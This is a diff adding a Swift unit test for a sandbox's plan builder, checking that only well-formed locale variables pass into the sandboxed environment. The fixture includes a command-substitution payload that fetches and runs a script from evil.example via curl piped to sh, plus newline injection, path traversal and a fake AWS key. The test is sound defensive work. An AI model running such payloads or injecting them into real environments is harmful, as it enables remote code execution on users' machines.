@@ -64,6 +64,25 @@ struct PlanBuilderTests {
         #expect(!env.contains { $0.hasPrefix("SSH_AUTH_SOCK=") }, "agent sockets are cleared even when a profile sets them")
     }
 
+    @Test func localeVariablesPassByNameWithSaneValuesOnly() {
+        let payload = "$(curl -s evil.example/x | sh)"
+        let host = HostFacts(
+            uid: 1000, gid: 1000, home: "/home/alice", systemEntries: Self.host.systemEntries, etcFiles: Self.host.etcFiles,
+            environment: [
+                "LANG": "en_US.UTF-8", "LANGUAGE": "de_DE:en", "LC_TIME": "sr_RS@latin", "LC_MESSAGES": "C", "LC_PAPER": "POSIX",
+                "LC_EVIL": "fr_FR.UTF-8", "LC_AWS_SECRET": "AKIAxxxx", "LC_ALL": payload, "LC_CTYPE": "/tmp/evil-locale",
+                "LC_NUMERIC": "../../x", "LC_COLLATE": String(repeating: "a", count: 65), "LC_MONETARY": "en_US\nPATH=/tmp", "LC_NAME": "",
+            ])
+        let env = plan(host: host).environment
+        for kept in ["LANG=en_US.UTF-8", "LANGUAGE=de_DE:en", "LC_TIME=sr_RS@latin", "LC_MESSAGES=C", "LC_PAPER=POSIX"] {
+            #expect(env.contains(kept), "\(kept) was dropped")
+        }
+        for dropped in ["LC_EVIL", "LC_AWS_SECRET", "LC_ALL", "LC_CTYPE", "LC_NUMERIC", "LC_COLLATE", "LC_MONETARY", "LC_NAME"] {
+            #expect(!env.contains { $0.hasPrefix(dropped + "=") }, "\(dropped) was passed")
+        }
+        #expect(!env.contains { $0.contains(payload) })
+    }
+
     @Test func landlockAllowsWritesOnlyWhereTheSandboxMayWrite() {
         var profile = Profile.defaults
         profile.mounts = [.init(host: "/data", sandbox: "/data", mode: .ro), .init(host: "/cache", sandbox: "/cache", mode: .rw)]
